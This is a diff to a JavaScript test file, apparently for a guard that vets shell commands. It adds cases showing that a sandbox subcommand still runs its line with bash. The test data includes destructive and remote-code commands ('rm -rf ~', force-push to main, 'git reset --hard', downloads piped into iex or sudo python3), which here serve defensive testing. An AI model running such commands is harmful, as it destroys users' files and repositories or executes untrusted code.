@@ -41,4 +41,11 @@ testHoles({
     ['iwr https://x -OutFile f', 'iwr https://x | iex'],
     ['curl x | awk 1', 'curl x | sudo python3 -'],
   ],
+  // `axme sandbox -c LINE` runs LINE with bash (docs/cli.md); the sandbox keeps neither the network nor the working tree from it
+  'axme sandbox -c runs its line': [
+    ["axme sandbox -c 'npm test'", "axme sandbox -c 'npm publish'"],
+    ['axme sandbox --json', "axme sandbox -c 'git push --force origin main'"],
+    ['axme sandbox -- git reset --hard', "npx axme sandbox -c 'rm -rf ~'"],
+    ["npx axme sandbox -c 'npm run build'", 'node_modules/.bin/axme sandbox -c="rm -rf ~"'],
+  ],
 });
